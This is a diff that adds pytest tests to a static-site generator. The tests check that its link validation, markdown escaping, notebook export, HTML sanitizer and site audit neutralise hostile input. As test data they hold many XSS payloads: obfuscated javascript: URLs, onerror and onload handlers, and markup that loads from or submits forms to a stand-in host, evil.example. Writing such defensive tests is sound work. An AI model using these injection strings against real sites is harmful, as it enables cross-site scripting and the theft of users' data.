@@ -12,7 +12,7 @@ import pytest
 import yaml
 
 from paperclub import build as build_mod
-from paperclub.audit import audit_site
+from paperclub.audit import audit_site, page_problems, parse_html
 from paperclub.check import check_project
 from paperclub.cli import main, scaffold
 from paperclub.errors import PaperclubError
@@ -406,3 +406,214 @@ def test_row1_site_and_cache_may_not_overlap(project_factory, tmp_path, capsys):
     root = project_factory(["one"])
     assert main(["--root", str(root), "build", "--site", str(tmp_path / "x"), "--cache", str(tmp_path / "x/c")]) == 1
     assert "overlaps" in capsys.readouterr().err
+
+
+def _site_markdown(md: str) -> str:
+    """Markdown converted with the site's own extensions (mkdocs.yml), as the site engine converts a page."""
+    import markdown
+
+    cfg = yaml.safe_load((Path(__file__).resolve().parent.parent / "mkdocs.yml").read_text())
+    names, configs = [], {}
+    for ext in cfg["markdown_extensions"]:
+        name, conf = (next(iter(ext.items())) if isinstance(ext, dict) else (ext, {}))
+        names.append(name)
+        configs[name] = conf or {}
+    return markdown.markdown(md, extensions=names, extension_configs=configs)
+
+
+def _front_matter(path: Path, **fields: str) -> None:
+    """Replace or add top-level front-matter fields of a scaffolded paper (values given as YAML text)."""
+    meta, body = path.read_text().split("\n---\n", 1)
+    lines = meta.split("\n")
+    for key, value in fields.items():
+        lines = [ln for ln in lines if not ln.startswith(f"{key}:")] + [f"{key}: {value}"]
+    path.write_text("\n".join(lines) + "\n---\n" + body)
+
+
+@pytest.mark.parametrize("url", ["\\x01javascript:alert(1)", " javascript:alert(1)", "java\\tscript:alert(1)",
+                                 "java\\nscript:alert(1)", "JavaScript:alert(1)", "&#106;avascript:alert(1)",
+                                 "javascript&#58;alert(1)", "https://x.org/a) {: onclick=alert(1) }",
+                                 "data:text/html,<script>", "//evil.example/x", "\\\\u2028javascript:x"])
+def test_row2_links_are_read_as_a_browser_reads_them(tmp_path, url):
+    paper = tmp_path / "papers" / "x.md"
+    paper.parent.mkdir()
+    paper.write_text('---\ntitle: T\nauthors: [A]\nyear: 2024\nvenue: V\nlinks: {paper: "' + url + '"}\ntldr: t\n---\n')
+    with pytest.raises(PaperclubError) as err:
+        parse_paper(paper)
+    assert str(err.value).startswith("papers/x.md: field 'links.paper': ") and "\n" not in str(err.value)
+
+
+def test_row2_good_links_stay_and_cannot_leave_their_markdown_link(tmp_path):
+    paper = tmp_path / "papers" / "x.md"
+    paper.parent.mkdir()
+    paper.write_text('---\ntitle: T\nauthors: [A]\nyear: 2024\nvenue: V\nlinks: {paper: "https://en.wikipedia.org/'
+                     'wiki/Go_(game)?a=1&b=2", code: "../code/x.py", project: "HTTPS://example.org/{x}[y]"}\n'
+                     'tldr: t\n---\n')
+    links = parse_paper(paper).links
+    assert links.paper == "https://en.wikipedia.org/wiki/Go_%28game%29?a=1&b=2" and links.code == "../code/x.py"
+    assert links.project == "HTTPS://example.org/%7Bx%7D%5By%5D"
+    html = _site_markdown(f"[Paper]({links.paper}){{: .x }}")
+    assert 'href="https://en.wikipedia.org/wiki/Go_%28game%29?a=1&amp;b=2"' in html
+
+
+HOSTILE_TEXT = ["*{json}*{ #__config }", "x{: #__config .md-overlay }", "[click](javascript:alert(1))",
+                "`code` {: onclick=alert(1) }", "<svg onload=alert(2)>", "line\n\n{: #__config }",
+                "&#60;script&#62;", "\\{ #__config \\}", "$x^{2}$ {: #__config }"]
+
+
+@pytest.mark.parametrize("payload", HOSTILE_TEXT)
+def test_row3_front_matter_text_carries_no_markup_or_markdown_syntax(payload):
+    from paperclub import fragments as frag
+
+    from paperclub.papers import check_heading_text
+
+    try:
+        heading = [f"# {frag.text(check_heading_text(payload))}"]
+    except ValueError as err:       # a title whose heading id would be one of the theme's: refused
+        assert "may not start with '_'" in str(err) and payload.lstrip("\\{ #").startswith("__")
+        heading = []
+    for md in (frag.text(payload), *heading, f"- [{frag.text(payload)}](x.md)",
+               f"!!! abstract \"TL;DR\"\n    {frag.text(payload)}",
+               f"| a |\n| --- |\n| {frag.cell(payload)} |",
+               f'<div markdown>\n\n<span class="pc-tag">{frag.attr(payload)}</span>\n\n</div>'):
+        html = _site_markdown(md)
+        info = parse_html(html)
+        assert page_problems(info) == [] and not any(i.startswith("__") for i in info.ids), (payload, html)
+        for bad in ("<svg", "<script", 'href="javascript', 'class="md-overlay'):
+            assert bad not in html, (payload, md, html)
+
+
+def test_row3_math_and_emphasis_still_work_in_front_matter_text():
+    from paperclub import fragments as frag
+
+    html = _site_markdown(frag.text("The $\\beta$-VAE: *disentangled* $x^{2}$, n<k"))
+    assert "<em>disentangled</em>" in html and "\\(x^{2}\\)" in html and "\\(\\beta\\)" in html and "n&lt;k" in html
+
+
+def test_row4_a_code_fence_is_longer_than_any_backtick_run_inside(project_factory):
+    """A bibtex field with a line of three backticks cannot close its fence: the page shows it as code."""
+    from paperclub import render
+    from paperclub.execute import NotebookResult
+
+    root = project_factory(["cite"])
+    p = root / "papers/cite.md"
+    _front_matter(p, bibtex=json.dumps("@misc{x,\n```\n<img src=x onerror=alert(1)>\n````` more\n}"),
+                  title=json.dumps("T *{json}*{ #__config }"))
+    paper = parse_paper(p)
+    result = NotebookResult("cite", "cached", 1.0, None, metrics={"slope_error": 0.01, "naive_slope_error": 1.0})
+    page = render.paper_page(paper, result, Project(root), {})
+    html = _site_markdown(page.markdown.split("\n---\n", 1)[1])
+    cite = html.split('id="cite"')[1]
+    assert "<img" not in cite and "&lt;img" in cite and "onerror" in cite and "````` more" in cite
+    assert "</code></pre>" in cite.split("more")[1]        # the whole field stays inside the one code block
+    assert 'id="__config"' not in html
+
+
+def test_row4_and_ipynb_the_downloadable_notebook_carries_no_raw_title(project_factory):
+    """The raw title used to land in the notebook's first Markdown cell (nbconvert to HTML runs it)."""
+    from paperclub import standalone
+    from paperclub.execute import NotebookResult
+
+    root = project_factory(["nb"])
+    p = root / "papers/nb.md"
+    _front_matter(p, title=json.dumps("Evil <img src=x onerror=alert(1)> *{x}*{ #__config } [l](javascript:x)"))
+    blob = standalone.page_notebook(Project(root), parse_paper(p), NotebookResult("nb", "cached", 1.0, None))
+    intro = json.loads(blob)["cells"][0]["source"]
+    intro = "".join(intro) if isinstance(intro, list) else intro
+    assert "<img" not in intro and "{ #__config }" not in intro and "[l](" not in intro
+    assert "&lt;img src=x onerror=alert(1)&gt;" in intro
+
+
+def _theme_body(name: str, base: str = "..") -> str:
+    import re
+
+    import material
+    text = (Path(material.__file__).parent / "templates/partials/javascripts" / name).read_text()
+    body = re.search(r"<script>(.*?)</script>", text, re.S).group(1)
+    return re.sub(r"\{\{.*?\}\}", base, body)
+
+
+def test_row5_only_the_theme_s_exact_inline_scripts_pass(tmp_path):
+    base = _theme_body("base.html")
+    good = tmp_path / "good"
+    good.mkdir()
+    (good / "index.html").write_text(f"<html><body><script>{base}</script><script>{_theme_body('palette.html')}"
+                                     f"</script></body></html>")
+    assert audit_site(good) == []
+    for evil in (base + ";alert(1)", base.replace("..", '",alert(1),"'), "__md_scope=1;alert(1)",
+                 "var palette=__md_get('x');alert(1)", " " + base):
+        site = tmp_path / f"s{abs(hash(evil))}"
+        site.mkdir()
+        (site / "index.html").write_text(f"<html><body><script>{evil}</script></body></html>")
+        problems = audit_site(site)
+        assert len(problems) == 1 and "an inline <script>" in problems[0], (evil, problems)
+
+
+AUDIT_CASES = {
+    '<a href="java&#9;script:alert(1)">x</a>': "javascript: URL in <a href>",
+    '<a href="java&#x0A;script:alert(1)">x</a>': "javascript: URL in <a href>",
+    '<a href="&#1;javascript:alert(1)">x</a>': "javascript: URL in <a href>",
+    '<a href=" JAVASCRIPT:alert(1)">x</a>': "javascript: URL in <a href>",
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>': "javascript: URL in <a xlink:href>",
+    '<svg><a href="#"><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>':
+        "SVG <animate> that changes a URL",
+    '<svg><set attributeName="xlink:href" to="https://evil.example/"/></svg>': "SVG <set> that changes a URL",
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">': "<meta http-equiv=refresh>",
+    '<form action="https://evil.example/steal"><input name=q></form>': "sends a form to an outside URL",
+    '<button formaction="https://evil.example/">x</button>': "sends a form to an outside URL",
+    '<svg><image xlink:href="https://evil.example/x.png"/></svg>': "loads an outside URL https://evil.example/x.png",
+    '<svg><use href="https://evil.example/s.svg#a"/></svg>': "loads an outside URL",
+    '<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>': "loads an outside URL",
+    '<div style="background:\\75 rl(https://evil.example/a.png)">x</div>': "loads an outside URL https://evil.example",
+    '<div style="background-image:image-set(\'https://evil.example/a.png\' 1x)">x</div>': "loads an outside URL",
+    '<style>@import "https://evil.example/a.css";</style>': "loads an outside URL",
+    '<div style="background:url(\'javascript:alert(1)\')">x</div>': "javascript: URL in CSS",
+    '<img srcset="a.png 1x, https://evil.example/b.png 2x" alt="">': "loads an outside URL https://evil.example/b.png",
+    '<span id="__config">{"search": "https://evil.example/w.js"}</span>': 'id="__config" besides the theme',
+    '<object data="x.svg"></object>': "<object> element",
+    '<video poster="https://evil.example/p.png"></video>': "loads an outside URL",
+}
+
+
+@pytest.mark.parametrize("markup", list(AUDIT_CASES))
+def test_audit_reads_pages_as_a_browser_does(tmp_path, markup):
+    (tmp_path / "index.html").write_text(f"<!doctype html><html><head></head><body>{markup}</body></html>")
+    (tmp_path / "a.png").write_bytes(b"png")
+    (tmp_path / "x.svg").write_text("<svg/>")
+    problems = "\n".join(audit_site(tmp_path))
+    assert AUDIT_CASES[markup] in problems, problems
+
+
+def test_audit_checks_the_theme_s_configuration(tmp_path):
+    (tmp_path / "w.js").write_text("")
+    ok = '<script id="__config" type="application/json">{"base": ".", "search": "w.js"}</script>'
+    (tmp_path / "index.html").write_text(f"<html><body>{ok}</body></html>")
+    assert audit_site(tmp_path) == []
+    for body in (ok.replace("w.js", "https://evil.example/w.js"), '<p id="__config">{}</p>' + ok,
+                 ok + '<script id="__config" type="application/json">{}</script>'):
+        (tmp_path / "index.html").write_text(f"<html><body>{body}</body></html>")
+        assert any("__config" in p or "search worker" in p for p in audit_site(tmp_path)), body
+
+
+def test_notes_raw_html_goes_through_the_allowlist_and_nothing_is_lost():
+    from paperclub.sanitize import notes_markdown
+
+    src = ('Intro <small>tiny</small>, n<k, <script>__md_scope=1;alert(1)</script>\n'
+           '<div class="pc-x" markdown onclick="x()">\n\n<a href="java&#9;script:x">l</a> '
+           '<img src="https://evil.example/x.png" alt="a"> <img src="f.png" alt="b">\n\n</div>\n'
+           '<!-- a comment -->\n`<script>code</script>` and $a<b c>d$\n\n```html\n<script>fenced</script>\n```\n'
+           '<span id="__config">x</span> *x*{ #__config } [l](u){: onclick="y" } ## Head {: .cls #ok }\n'
+           '<div\nonmouseover="x">multi</div> <iframe src="x.html"></iframe> <https://arxiv.org/abs/1> <a@b.org>')
+    out = notes_markdown(src)
+    assert "&lt;script&gt;__md_scope=1;alert(1)&lt;/script&gt;" in out          # shown as text, not lost
+    assert '<div class="pc-x" markdown="1">' in out and "onclick" not in out.replace('&#123;: onclick="y" &#125;', "")
+    assert "<a>l</a>" in out and '<img alt="a">' in out and '<img src="f.png" alt="b">' in out
+    assert "`<script>code</script>` and $a<b c>d$" in out and "```html\n<script>fenced</script>\n```" in out
+    assert "<span>x</span>" in out and "*x*&#123; #__config &#125;" in out and "&#123;: onclick" in out
+    assert "## Head {: .cls #ok }" in out and "<div>multi</div>" in out and "&lt;iframe" in out
+    assert "a comment" not in out and "<https://arxiv.org/abs/1> <a@b.org>" in out     # autolinks stay
+    html = _site_markdown(out)
+    info = parse_html(html)
+    assert page_problems(info) == [] and not any(i.startswith("__") for i in info.ids)
+    assert "<script" not in html and "onclick" not in html.replace('&#123;: onclick="y" &#125;', "")
+    assert "<iframe" not in html
